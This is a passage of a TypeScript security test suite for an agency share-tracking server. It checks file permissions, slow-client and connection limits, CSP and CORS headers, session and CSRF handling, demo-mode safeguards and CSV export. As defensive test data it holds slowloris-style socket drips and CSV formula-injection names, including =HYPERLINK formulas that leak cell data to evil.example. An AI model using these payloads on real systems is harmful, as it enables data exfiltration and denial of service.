        const files = [file, `${file}-wal`, `${file}-shm`].filter(existsSync).map((f) => readFileSync(f));
        expect(files.length).toBeGreaterThanOrEqual(2);
        // Not vacuous: the hash itself is in the files.
        expect(files.some((b) => b.includes(sha256(token)))).toBe(true);
        for (const bytes of files) for (const secret of secrets) expect(bytes.includes(secret)).toBe(false);
      } else {
        const tables = await tableNames(s);
        let text = '';
        for (const table of tables) {
          // Table names from the catalogue, quoted: test code reading every row as text.
          const rows = await s.agency.db.all<{ row: string }>(`SELECT t::text AS row FROM "${table.replace(/"/g, '""')}" AS t`);
          text += rows.map((r) => r.row).join('\n');
        }
        expect(text).toContain(sha256(token).toString('hex'));
        for (const secret of secrets) expect(text.includes(secret.toString('latin1'))).toBe(false);
      }
    });
  });

  describe.runIf(backend === 'sqlite')('the SQLite files', () => {
    it('creates the database, its -wal and -shm 0600 and the media directory closed to others, whatever the umask', async () => {
      const dir = mkdtempSync(path.join(tmpdir(), 'siar-modes-'));
      const file = path.join(dir, 'data', 'agency.db');
      const previous = process.umask(0);
      let agency: AgencyServer | undefined;
      try {
        agency = await createAgencyServer({ quiet: true, demo: true, jobs: false, db: file });
      } finally {
        process.umask(previous);
      }
      try {
        await agency.listen(0);
        await agency.db.run('INSERT INTO alerts (at, kind, subject, detail) VALUES ($1, $2, $3, $4)', [
          new Date().toISOString(),
          't',
          't',
          't',
        ]);
        for (const f of [file, `${file}-wal`, `${file}-shm`]) {
          expect(existsSync(f), f).toBe(true);
          expect((statSync(f).mode & 0o777).toString(8), f).toBe('600');
        }
        expect(statSync(path.dirname(file)).mode & 0o077).toBe(0);
        expect(statSync(path.join(path.dirname(file), 'media')).mode & 0o007).toBe(0);
      } finally {
        await agency.close();
        rmSync(dir, { recursive: true, force: true });
      }
    });

    it('a locked database answers POST v1/shares with 503 and Retry-After at once, still serves the feed, and loses nothing', async () => {
      const batch = [s.share(), s.share({ platform: 'facebook' })];
      const lock = new BetterSqlite3(s.agency.db.where);
      lock.exec('BEGIN IMMEDIATE');
      try {
        // Four seconds is a safety net: the old 5 s busy_timeout would trip it, the new 50 ms does not.
        const busy = await s.call('/v1/shares', {
          method: 'POST',
          headers: { 'content-type': 'application/json', authorization: `Bearer ${member}` },
          body: JSON.stringify({ shares: batch }),
          signal: AbortSignal.timeout(4000),
        });
        expect(busy.status).toBe(503);
        expect(Number(busy.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
        expect(await body(busy)).toMatchObject({ error: 'unavailable' });
        const feed = await s.call('/feed.json', { signal: AbortSignal.timeout(4000) });
        expect(feed.status).toBe(200);
      } finally {
        lock.exec('ROLLBACK');
        lock.close();
      }
      const res = await s.json('POST', '/v1/shares', { shares: batch }, member);
      expect(res.status).toBe(200);
      expect(SharesResponseSchema.parse(await res.json()).accepted.sort()).toEqual(batch.map((e) => e.id).sort());
    });
  });

  describe('slow clients and connection caps', () => {
    it('drops a socket that sends its headers too slowly (headersTimeout), serving others meanwhile', async () => {
      // The defaults: headers within 10 s, a request within 2 minutes, a cap on connections.
      const defaults = await createAgencyServer({ quiet: true, demo: true, jobs: false, db: await freshDatabase(backend) });
      expect(defaults.server.headersTimeout).toBe(10_000);
      expect(defaults.server.requestTimeout).toBe(120_000);
      expect(defaults.server.maxConnections).toBeLessThanOrEqual(1000);
      await defaults.close();
      // Shorter for the test.
      const agency = await createAgencyServer({
        quiet: true,
        demo: true,
        jobs: false,
        db: await freshDatabase(backend),
        timeouts: { headersMs: 1000, checkEveryMs: 100 },
      });
      expect(agency.server.headersTimeout).toBe(1000);
      try {
        const { port } = await agency.listen(0);
        const slow = await connect(port);
        slow.socket.write('GET /feed.json HTTP/1.1\r\nHost: 127.0.0.1\r\n');
        const drip = setInterval(() => {
          if (!slow.isClosed()) slow.socket.write(`X-Drip-${Date.now()}: 1\r\n`);
        }, 150);
        try {
          const meanwhile = await fetch(`http://127.0.0.1:${port}/feed.json`);
          expect(meanwhile.status).toBe(200);
          await within(slow.closed, 8000, 'the slow socket was not dropped');
        } finally {
          clearInterval(drip);
        }
        // Closed by the server, with 408 or nothing: it never got to the route.
        expect(slow.data()).toMatch(/^(HTTP\/1\.1 408 |)/);
        expect(slow.data()).not.toMatch(/HTTP\/1\.1 200/);
      } finally {
        await agency.close();
      }
    });

    it('cuts off a client that sends its headers, then trickles its body past the request timeout, serving others meanwhile', async () => {
      const agency = await createAgencyServer({
        quiet: true,
        demo: true,
        jobs: false,
        db: await freshDatabase(backend),
        timeouts: { requestMs: 1000, checkEveryMs: 100 },
      });
      expect(agency.server.requestTimeout).toBe(1000);
      try {
        const { port } = await agency.listen(0);
        const members = await count(agency, 'SELECT COUNT(*) AS n FROM members');
        const slow = await connect(port);
        // Whole headers at once, so the header limit is met; then a 4 KiB enrolment, a byte at a time.
        slow.socket.write('POST /v1/enroll HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 4096\r\n\r\n{');
        let sent = 1;
        const drip = setInterval(() => {
          if (!slow.isClosed() && sent < 4095) {
            slow.socket.write(' ');
            sent++;
          }
        }, 100);
        try {
          const meanwhile = await fetch(`http://127.0.0.1:${port}/feed.json`);
          expect(meanwhile.status).toBe(200);
          await within(slow.closed, 8000, 'the trickling socket was not cut off');
        } finally {
          clearInterval(drip);
        }
        // Ended by the server with 408 or nothing, never an answer from the route.
        expect(sent).toBeLessThan(4095);
        expect(slow.data()).toMatch(/^(HTTP\/1\.1 408 |)/);
        expect(slow.data()).not.toMatch(/HTTP\/1\.1 (?!408 )\d{3}/);
        expect(await count(agency, 'SELECT COUNT(*) AS n FROM members')).toBe(members);
        // The server still answers afterwards.
        expect((await fetch(`http://127.0.0.1:${port}/healthz`)).status).toBe(200);
      } finally {
        await agency.close();
      }
    });

    // Transport only: the backend makes no difference, and the test waits out the idle time.
    it.runIf(backend === 'sqlite')(
      'a keep-alive socket reused a second after the idle time it was promised is still answered, and closed after a while',
      async () => {
        const h = await startAgency(backend);
        const port = Number(new URL(h.origin).port);
        const probe = await connect(port);
        try {
          probe.socket.write('GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n');
          const first = await readResponse(probe);
          expect(first).toMatch(/^HTTP\/1\.1 200 /);
          const promised = Number(/\r\nkeep-alive: *timeout=(\d+)/i.exec(first)?.[1]);
          expect(promised).toBe(KEEP_ALIVE_ADVERTISED_S);
          // A client whose idle timer fires a second late (undici's can) still reuses the socket.
          await sleep(promised * 1000 + 1000);
          expect(probe.isClosed()).toBe(false);
          probe.socket.write('GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n');
          let second = '';
          for (let i = 0; i < 500 && !/\r\n\r\n/.test(second); i++) {
            second = probe.data().slice(first.length);
            if (!/\r\n\r\n/.test(second)) await sleep(10);
          }
          expect(second).toMatch(/^HTTP\/1\.1 200 /);
          // Idle sockets do not stay open for ever.
          expect(await within(probe.closed, 15_000, 'the idle socket was never closed')).toEqual({ hadError: false });
        } finally {
          probe.socket.destroy();
          await h.close();
        }
      },
    );

    it('caps connections per address: the sixth socket from one address is closed, another address is still answered', async () => {
      const h = await startAgency(backend, { maxConnectionsPerAddress: 5 });
      const port = Number(new URL(h.origin).port);
      const open = [];
      try {
        for (let i = 0; i < 5; i++) {
          const probe = await connect(port);
          probe.socket.write('GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n');
          expect(await readResponse(probe)).toMatch(/^HTTP\/1\.1 200 /);
          open.push(probe);
        }
        const sixth = await connect(port);
        sixth.socket.write('GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n');
        await within(sixth.closed, 5000, 'the sixth connection was not closed');
        expect(sixth.data()).toBe('');
        expect(open.every((o) => !o.isClosed())).toBe(true);
        // Loopback is a whole /8 on Linux: 127.0.0.2 is another client.
        const other = await getFrom(h.origin, '/healthz', '127.0.0.2');
        expect(other.status).toBe(200);
        // A connection given back makes room again.
        open.pop()!.socket.destroy();
        let again: string | undefined;
        for (let i = 0; i < 50 && again === undefined; i++) {
          const probe = await connect(port);
          probe.socket.write('GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n');
          again = await readResponse(probe, 2000).catch(() => undefined);
          probe.socket.destroy();
          if (again === undefined) await sleep(20);
        }
        expect(again).toMatch(/^HTTP\/1\.1 200 /);
      } finally {
        for (const o of open) o.socket.destroy();
        await h.close();
      }
    });
  });

  describe('headers, CORS and studio sessions', () => {
    it('every answer is nosniff; every HTML page has the strict CSP, DENY framing, no referrer, no-store, and says DEMO', async () => {
      for (const where of [
        '/login',
        '/',
        '/v1/me/summary',
        '/export/shares.csv',
        '/nothing',
        '/feed.json',
        '/feed.json.sig',
        '/healthz',
        '/api/v1/feed',
        '/dashboard.css',
      ]) {
        const res = await s.call(where);
        expect(res.headers.get('x-content-type-options'), where).toBe('nosniff');
      }
      const login = await formLogin(s, 'admin', DEMO.admin!.password);
      const pages = [
        { path: '/login', res: await s.call('/login') },
        { path: '/login (401)', res: (await formLogin(s, 'admin', 'salah-sekali-lagi')).res },
      ];
      expect(pages.map((p) => p.res.status)).toEqual([200, 401]);
      const visited = [
        ...(await Promise.all(
          pages.map(async ({ path, res }) => ({ path, status: res.status, headers: res.headers, html: await res.text() })),
        )),
        // The dashboard and every studio page reachable from it.
        ...(await crawl(s.origin, login.cookie!)),
      ];
      expect(visited.length).toBeGreaterThanOrEqual(4);
      expect(visited.map((p) => p.path)).toContain('/');
      for (const page of visited) {
        const where = `${page.path} (${page.status})`;
        const policy = csp(page.headers.get('content-security-policy'));
        expect(policy.get('default-src'), where).toBe("'none'");
        // Script only from this server (the studio's editor), never inline or evaluated.
        expect([undefined, "'self'"], where).toContain(policy.get('script-src'));
        expect(page.headers.get('content-security-policy'), where).not.toMatch(/unsafe-inline'|unsafe-eval'|\*/);
        expect(policy.get('frame-ancestors'), where).toBe("'none'");
        expect(policy.get('base-uri'), where).toBe("'none'");
        expect(policy.get('form-action'), where).toBe("'self'");
        expect(page.headers.get('x-frame-options'), where).toBe('DENY');
        expect(page.headers.get('referrer-policy'), where).toBe('no-referrer');
        expect(page.headers.get('cache-control'), where).toBe('no-store');
        expect(page.headers.get('x-content-type-options'), where).toBe('nosniff');
        expect(page.html, where).not.toMatch(/<script(?![^>]*\bsrc=)|\son[a-z]+=/i);
        // A demo says so on every page.
        expect(page.html, where).toContain(DEMO_BANNER);
      }
      // The dashboard's own pages keep the exact policy of the review.
      expect(visited.find((p) => p.path === '/')!.headers.get('content-security-policy')).toBe(HTML_HEADERS['Content-Security-Policy']);
    });

    it('the tally is CORS * without credentials and never sets a cookie; the studio is no CORS target', async () => {
      const evil = { origin: 'https://evil.example' };
      const answers = [
        await s.call('/v1/me/summary', { headers: { ...evil, authorization: `Bearer ${member}` } }),
        await s.call('/v1/me/summary', { headers: evil }),
        await s.call('/v1/enroll', { method: 'POST', headers: { ...evil, 'content-type': 'application/json' }, body: '{}' }),
        await s.call('/v1/shares', { method: 'OPTIONS', headers: { ...evil, 'access-control-request-method': 'POST' } }),
      ];
      expect(answers.map((r) => r.status)).toEqual([200, 401, 400, 204]);
      for (const res of answers) {
        expect(res.headers.get('access-control-allow-origin')).toBe('*');
        expect(res.headers.get('access-control-allow-credentials')).toBeNull();
        expect(res.headers.get('set-cookie')).toBeNull();
      }
      for (const where of ['/login', '/', '/api/v1/feed', '/export/shares.csv']) {
        const res = await s.call(where, { headers: evil });
        expect(res.headers.get('access-control-allow-origin'), where).toBeNull();
      }
    });

    it('a forged, logged-out or expired session opens nothing; each login is a new session; logout needs the CSRF token', async () => {
      const forged = await s.call('/', { headers: { cookie: `siar_session=${'A'.repeat(43)}` } });
      expect(forged.status).toBe(302);
      expect(forged.headers.get('location')).toBe('login');
      expect((await s.call('/export/shares.csv', { headers: { cookie: 'siar_session=' } })).status).toBe(401);

      const first = await formLogin(s, 'admin', DEMO.admin!.password);
      const second = await formLogin(s, 'admin', DEMO.admin!.password);
      expect([first.status, second.status]).toEqual([303, 303]);
      expect(first.cookie).not.toBe(second.cookie);
      // The cookie: HttpOnly, SameSite=Strict, 8 hours, not Secure on plain http.
      expect(first.setCookie!.split('; ').slice(1).sort()).toEqual(['HttpOnly', 'Max-Age=28800', 'Path=/', 'SameSite=Strict']);

      const page = await s.call('/', { headers: { cookie: first.cookie! } });
      expect(page.status).toBe(200);
      const csrf = csrfOf(await page.text());

      // A studio API token is not a cookie, and a cookie is not a Bearer token.
      const api = await s.login('admin');
      expect((await s.call('/', { headers: { cookie: `siar_session=${api}` } })).status).toBe(302);
      expect((await s.call('/api/v1/feed', { headers: { authorization: `Bearer ${first.cookie!.split('=')[1]}` } })).status).toBe(401);

      // Logout without the CSRF token (a cross-site form) does nothing; with it, the session dies on the server.
      const logout = (fields: Record<string, string>, headers: Record<string, string> = {}) =>
        s.call('/logout', { method: 'POST', headers: { cookie: first.cookie!, ...headers }, body: new URLSearchParams(fields) });
      await logout({});
      await logout({ _csrf: 'x'.repeat(csrf.length) });
      // A browser that says the form came from another site is refused even with the token.
      await logout({ _csrf: csrf }, { 'sec-fetch-site': 'cross-site' });
      expect((await s.call('/', { headers: { cookie: first.cookie! } })).status).toBe(200);
      await logout({ _csrf: csrf });
      expect((await s.call('/', { headers: { cookie: first.cookie! } })).status).toBe(302);

      // Sessions are rows: one that has expired opens nothing.
      expect((await s.call('/', { headers: { cookie: second.cookie! } })).status).toBe(200);
      const { changes } = await s.agency.db.run('UPDATE sessions SET expires_at = $2 WHERE hash = $1', [
        sha256(second.cookie!.split('=')[1]!),
        new Date(Date.now() - 1000).toISOString(),
      ]);
      expect(changes).toBe(1);
      expect((await s.call('/', { headers: { cookie: second.cookie! } })).status).toBe(302);
    });

    it('passwords are checked in constant time against scrypt, and an unknown user costs the same work', async () => {
      // DUMMY_HASH is a well-formed scrypt hash: verifying against it runs scrypt like a real one.
      const [scheme, n, r, pp, salt, hash] = DUMMY_HASH.split('$');
      expect([scheme, n, r, pp]).toEqual(['scrypt', '32768', '8', '1']);
      expect(Buffer.from(salt!, 'base64url')).toHaveLength(16);
      expect(Buffer.from(hash!, 'base64url')).toHaveLength(32);
      expect(await verifyPassword('apa saja', DUMMY_HASH)).toBe(false);
      const source = readFileSync(path.join(ROOT, 'server/studio/passwords.ts'), 'utf8');
      const verify = /export async function verifyPassword[\s\S]*?\n}/.exec(source)![0];
      expect(verify).toMatch(/timingSafeEqual\(key, expected\)/);
      // Lengths may be compared; the bytes only by timingSafeEqual.
      expect(verify).not.toMatch(/\b(key|expected)\s*[!=]==?\s*(key|expected)\b(?!\.length)|\.equals\(|Buffer\.compare/);
      const auth = readFileSync(path.join(ROOT, 'server/studio/auth.ts'), 'utf8');
      expect(auth).toMatch(/verifyPassword\(password, account\?\.password_hash \?\? DUMMY_HASH\)/);
    });
  });

  describe('no silent demo', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'siar-env-'));
    afterAll(() => rmSync(dir, { recursive: true, force: true }));
    const keyFile = () => {
      const file = path.join(dir, `key-${randomUUID()}.pem`);
      writeFileSync(file, privateKeyPem(generateSigningKey()), { mode: 0o600 });
      return file;
    };
    const env = async (extra: Record<string, string>): Promise<EnvConfig> => {
      const db = await freshDatabase(backend);
      return configFromEnv({
        ...(backend === 'postgres' ? { SIAR_DATABASE_URL: db } : { SIAR_DB: db }),
        SIAR_PORT: '0',
        SIAR_HOST: '127.0.0.1',
        SIAR_SIGNING_KEY: keyFile(),
        ...extra,
      });
    };
    const SECRET_PASSWORD = 'sandi-produksi-rahasia';
    const SECRET_CODE = 'KODE-RAHASIA-9F2K';

    it('refuses to start a new database without SIAR_ADMIN_PASSWORD and SIAR_ENROLL_CODES, and a short password', async () => {
      expect(configFromEnv({}).demo).toBe(false);
      expect(configFromEnv({ SIAR_DEMO: '1' }).demo).toBe(true);
      expect(() => configFromEnv({ SIAR_ADMIN_PASSWORD: 'pendek' })).toThrow(/SIAR_ADMIN_PASSWORD.*12/);

      const nothing = await env({});
      await expect(startFromConfig(nothing, true)).rejects.toThrow(/SIAR_ADMIN_PASSWORD/);
      const noCodes = await env({ SIAR_ADMIN_PASSWORD: SECRET_PASSWORD });
      await expect(startFromConfig(noCodes, true)).rejects.toThrow(/SIAR_ENROLL_CODES/);
      // Nothing half made: that database takes its first admin and units once it is given both.
      const agency = await createAgencyServer({
        quiet: true,
        jobs: false,
        db: noCodes.db,
        admin: noCodes.admin,
        enrollCodes: { 'Dinas Kominfo': [SECRET_CODE] },
      });
      try {
        expect(await count(agency, 'SELECT COUNT(*) AS n FROM accounts')).toBe(1);
      } finally {
        await agency.close();
      }
    });

    // Found by this suite: a refused start left its database pool (and a temporary media directory)
    // open. Only PostgreSQL shows the connection from outside.
    (backend === 'postgres' ? it : it.skip)('a refused start leaves no connection to the database open', async () => {
      const nothing = await env({});
      await expect(startFromConfig(nothing, true)).rejects.toThrow(/SIAR_ADMIN_PASSWORD/);
      const name = new URL(nothing.db).pathname.slice(1);
      const client = new pg.Client(nothing.db);
      await client.connect();
      try {
        const { rows } = await client.query<{ n: number }>(
          "SELECT COUNT(*)::int AS n FROM pg_stat_activity WHERE datname = $1 AND application_name = 'siar-server'",
          [name],
        );
        expect(rows[0]!.n).toBe(0);
      } finally {
        await client.end();
      }
    });

    // Found by this suite: a new agency with no posts could not start, its first (empty) feed being
    // refused by the extension's own schema. An empty feed is now a feed with nothing to share yet
    // (items that all break the schema still are not), so the agency starts and serves it signed.
    it('a new agency with no posts yet starts, and serves a signed, empty feed until its first post', async () => {
      const config = await env({ SIAR_ADMIN_PASSWORD: SECRET_PASSWORD, SIAR_ENROLL_CODES: `Dinas Kominfo=${SECRET_CODE}` });
      const agency = await startFromConfig(config, true);
      try {
        const origin = `http://127.0.0.1:${new URL(agency.base).port}`;
        const feed = await fetch(`${origin}/feed.json`);
        expect(feed.status).toBe(200);
        const bytes = Buffer.from(await feed.arrayBuffer());
        const parsed = parseFeedText(bytes.toString('utf8'));
        expect(parsed.ok && parsed.feed.items).toEqual([]);
        expect(verifyFeed(bytes, await (await fetch(`${origin}/feed.json.sig`)).text(), agency.publicKey)).toBe(true);
      } finally {
        await agency.close();
      }
    });

    it('without SIAR_DEMO: the demo accounts and codes are dead, the banner prints no secret, and no page says DEMO', async () => {
      const config = await env({ SIAR_ADMIN_PASSWORD: SECRET_PASSWORD, SIAR_ENROLL_CODES: `Dinas Kominfo=${SECRET_CODE}` });
      expect(config.demo).toBe(false);
      // What startFromConfig would start, with the demo's feed given for the test's links.
      const agency = await createAgencyServer({
        quiet: true,
        jobs: false,
        db: config.db,
        demo: config.demo,
        admin: config.admin,
        enrollCodes: config.enrollCodes,
        feed: ({ base }) => buildDemoFeed({ base }),
      });
      try {
        const { port } = await agency.listen(0);
        const origin = `http://127.0.0.1:${port}`;
        const banner = describeServer(agency, config);
        expect(banner).not.toContain(SECRET_PASSWORD);
        expect(banner).not.toContain(SECRET_CODE);
        expect(banner).toContain('(SIAR_ADMIN_PASSWORD)');
        expect(banner).not.toMatch(/DEMO/);
        for (const a of Object.values(DEMO)) expect(banner).not.toContain(a.password);

        const session = (user: string, password: string) =>
          fetch(`${origin}/api/v1/session`, {
            method: 'POST',
            headers: { 'content-type': 'application/json' },
            body: JSON.stringify({ user, password }),
          });
        for (const a of Object.values(DEMO)) expect((await session(a.user, a.password)).status, a.user).toBe(401);
        const enrolWith = (code: string, seq: number) =>
          fetch(`${origin}/v1/enroll`, {
            method: 'POST',
            headers: { 'content-type': 'application/json' },
            body: JSON.stringify({ nip: nip(seq), name: 'A', code }),
          });
        expect((await enrolWith(KOMINFO.code, 1)).status).toBe(403);
        expect((await enrolWith(SECRET_CODE, 2)).status).toBe(201);

        const loginPage = await (await fetch(`${origin}/login`)).text();
        expect(loginPage).not.toContain(DEMO_BANNER);
        expect(loginPage).not.toMatch(/DEMO/);
        const login = await fetch(`${origin}/login`, {
          method: 'POST',
          redirect: 'manual',
          body: new URLSearchParams({ user: 'admin', password: SECRET_PASSWORD }),
        });
        expect(login.status).toBe(303);
        const pages = await crawl(origin, login.headers.get('set-cookie')!.split(';')[0]!);
        expect(pages.find((p) => p.path === '/')?.html).toContain('Keluar');
        expect(pages.length).toBeGreaterThanOrEqual(2);
        for (const page of pages) expect(page.html, page.path).not.toContain(DEMO_BANNER);
      } finally {
        await agency.close();
      }
    });

    it('SIAR_DEMO=1 starts the demo, loudly: banner and every dashboard page', async () => {
      const config = await env({ SIAR_DEMO: '1', SIAR_ADMIN_PASSWORD: SECRET_PASSWORD, SIAR_ENROLL_CODES: `Dinas Kominfo=${SECRET_CODE}` });
      const agency = await startFromConfig(config, true);
      try {
        const origin = `http://127.0.0.1:${new URL(agency.base).port}`;
        const banner = describeServer(agency, config);
        expect(banner).toContain('*** DEMO');
        expect(banner).toContain(DEMO.admin!.password);
        // The environment's secrets are not printed even then.
        expect(banner).not.toContain(SECRET_PASSWORD);
        expect(banner).not.toContain(SECRET_CODE);

        const loginPage = await fetch(`${origin}/login`);
        expect(await loginPage.text()).toContain(DEMO_BANNER);
        const wrong = await fetch(`${origin}/login`, {
          method: 'POST',
          body: new URLSearchParams({ user: 'admin', password: 'salah-sekali' }),
        });
        expect(wrong.status).toBe(401);
        expect(await wrong.text()).toContain(DEMO_BANNER);
        const login = await fetch(`${origin}/login`, {
          method: 'POST',
          redirect: 'manual',
          body: new URLSearchParams({ user: 'admin', password: DEMO.admin!.password }),
        });
        expect(login.status).toBe(303);
        const pages = await crawl(origin, login.headers.get('set-cookie')!.split(';')[0]!);
        expect(pages.map((p) => p.path)).toContain('/');
        for (const page of pages) expect(page.html, page.path).toContain(DEMO_BANNER);
      } finally {
        await agency.close();
      }
    });
  });

  /** RFC 4180 records with `separator`, honouring quotes. */
  function parseCsv(text: string, separator: string): string[][] {
    const rows: string[][] = [];
    let row: string[] = [];
    let field = '';
    let quoted = false;
    for (let i = 0; i < text.length; i++) {
      const c = text[i]!;
      if (quoted) {
        if (c === '"' && text[i + 1] === '"') {
          field += '"';
          i++;
        } else if (c === '"') quoted = false;
        else field += c;
      } else if (c === '"' && field === '') quoted = true;
      else if (c === separator) {
        row.push(field);
        field = '';
      } else if (c === '\r' && text[i + 1] === '\n') {
        row.push(field);
        rows.push(row);
        row = [];
        field = '';
        i++;
      } else if (c === '\n') {
        row.push(field);
        rows.push(row);
        row = [];
        field = '';
      } else field += c;
    }
    if (field !== '' || row.length > 0) rows.push([...row, field]);
    return rows;
  }

  describe('CSV export', () => {
    // Excel in an Indonesian locale splits on `;`; a file split on the other separator ignores our
    // quotes. A cell that starts with = + - @ (or a tab/CR a spreadsheet may drop first) runs.
    const HOSTILE_NAMES = [
      'Budi;=1+2;',
      '=HYPERLINK("http://evil.example/?"&A1;"klik")',
      '=HYPERLINK("http://evil.example/?"&A1,"klik")',
      'Ani, -2+3',
      'Sri;@SUM(A1)',
      'Tono;\t=1+1',
      'Wati;"=1+1"',
      '+62 812 3456',
      '@admin',
    ];

    /** Would a spreadsheet run this cell? Leading blanks (tab, CR, spaces) and quotes are what it may drop first. */
    const runs = (field: string) => /^[\s"]*[=+\-@]/.test(field);

    it('exports hostile names so that no field, split on `,` or on `;`, quoted or not, starts a formula', async () => {
      const ids: string[] = [];
      for (const [i, name] of HOSTILE_NAMES.entries()) {
        const token = await s.member(150 + i, KOMINFO, name);
        const event = s.share();
        ids.push(event.id);
        expect((await s.json('POST', '/v1/shares', { shares: [event] }, token)).status).toBe(200);
      }
      const admin = await s.login('admin');
      const res = await s.call('/export/shares.csv', { headers: { authorization: `Bearer ${admin}` } });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      const text = (await res.text()).replace(/^\uFEFF/, '');

      // The `,` reading (RFC 4180): the names come back whole, apart from the guard's apostrophes.
      const records = parseCsv(text, ',');
      const header = records[0]!;
      const nameAt = header.indexOf('name');
      for (const [i, name] of HOSTILE_NAMES.entries()) {
        const row = records.find((r) => r[0] === ids[i]);
        expect(row, name).toBeDefined();
        expect(row!.length, name).toBe(header.length);
        expect(row![nameAt]!.replaceAll("'", ''), name).toBe(name.replaceAll("'", ''));
      }
      const offending: string[] = [];
      for (const r of records) for (const f of r) if (runs(f)) offending.push(`, quoted: ${JSON.stringify(f)}`);
      for (const r of parseCsv(text, ';')) for (const f of r) if (runs(f)) offending.push(`; quoted: ${JSON.stringify(f)}`);
      for (const line of text.split(/\r\n|\n|\r/)) {
        for (const f of line.split(/[,;]/)) if (runs(f)) offending.push(`split, no quotes: ${JSON.stringify(f)}`);
      }
      expect(offending).toEqual([]);
    });
  });

  describe('CSV export of a large table', () => {
    // PostgreSQL's export streams COPY's own CSV through CsvLineEnds (server/dashboard/export.ts):
    // a chunk may end inside a multi-byte character, which must not become U+FFFD. (Decoding each
    // chunk on its own broke 16 characters in 1,200 rows here, in an earlier re-quoting step.)
    it('keeps every name whole, multi-byte characters included', async () => {
      // Half a megabyte of rows, almost all of it two- to four-byte characters.
      const names = [`Ñoño ${'ñé'.repeat(95)}`, `Wayan ${'🌺'.repeat(95)}`, `佐藤 ${'語'.repeat(190)}`, `Ketut ${'ä€'.repeat(95)}`];
      const ids = new Map<string, string>();
      for (const [i, name] of names.entries()) {
        const token = await enrolled(p, 200 + i, { name }, xff('198.51.100.200'));
        for (let r = 0; r < 3; r++) {
          const events = Array.from({ length: 100 }, () => p.share());
          for (const e of events) ids.set(e.id, name);
          expect((await p.json('POST', '/v1/shares', { shares: events }, token)).status).toBe(200);
        }
      }
      const admin = await p.login('admin');
      const res = await p.call('/export/shares.csv', { headers: { authorization: `Bearer ${admin}` } });
      expect(res.status).toBe(200);
      const text = (await res.text()).replace(/^\uFEFF/, '');
      expect(text).not.toContain('\uFFFD');
      // Every record ends with CRLF, on both databases, and holds its member's name whole.
      expect(text.endsWith('\r\n')).toBe(true);
      expect(text.replace(/\r\n/g, '')).not.toContain('\n');
      const all = parseCsv(text, ',');
      const nameAt = all[0]!.indexOf('name');
      const records = all.filter((r) => ids.has(r[0]!));
      expect(records).toHaveLength(ids.size);
      const damaged = records.filter((r) => r[nameAt] !== ids.get(r[0]!));
      expect(damaged).toEqual([]);
    }, 60_000);
  });

  describe('rate limits are per member, not per token (F2 closed)', () => {
    it("a second token of the same member shares the first one's bucket; another member has their own", async () => {
      // An https public address as well: the studio cookie is Secure behind the agency's TLS proxy.
      const h = await startAgency(backend, { rateLimit: { perMinute: 6, burst: 3 }, baseUrl: 'https://siar.kab-contoh.go.id' });
      try {
        const first = await h.member(6);
        for (let i = 0; i < 3; i++) expect((await h.json('POST', '/v1/shares', { shares: [h.share()] }, first)).status).toBe(200);
        const limited = await h.json('POST', '/v1/shares', { shares: [h.share()] }, first);
        expect(limited.status).toBe(429);
        expect(Number(limited.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);

        const admin = await h.login('admin');
        const code = await h.api(admin, 'POST', '/personal-codes', { nip: nip(6) });
        expect(code.status).toBe(201);
        const second = await h.json('POST', '/v1/enroll', {
          nip: nip(6),
          name: 'Pegawai 6',
          code: KOMINFO.code,
          personal_code: code.body.code,
        });
        expect(second.status).toBe(201);
        const token2 = EnrollResponseSchema.parse(await second.json()).token;
        expect(token2).not.toBe(first);
        expect((await h.json('POST', '/v1/shares', { shares: [h.share()] }, token2)).status).toBe(429);
        expect((await h.json('GET', '/v1/me/summary', undefined, token2)).status).toBe(429);

        const other = await h.member(7);
        const theirs = await h.json('GET', '/v1/me/summary', undefined, other);
        expect(theirs.status).toBe(200);
        expect(SummarySchema.parse(await theirs.json()).events).toBe(0);

        const cookie = (await formLogin(h, 'admin', DEMO.admin!.password)).setCookie!;
        expect(cookie.split('; ').slice(1).sort()).toEqual(['HttpOnly', 'Max-Age=28800', 'Path=/', 'SameSite=Strict', 'Secure']);
      } finally {
        await h.close();
      }
    });
  });

  it('every event recorded above was refused or counted, never half stored', async () => {
    // The shared agency's events and its counters agree (the checks above wrote through every path).
    const shares = await count(s, 'SELECT COUNT(*) AS n FROM shares');
    const events = await count(s, 'SELECT COALESCE(SUM(events), 0) AS n FROM rollup_unit');
    expect(shares).toBeGreaterThan(0);
    expect(events).toBe(shares);
  });
});
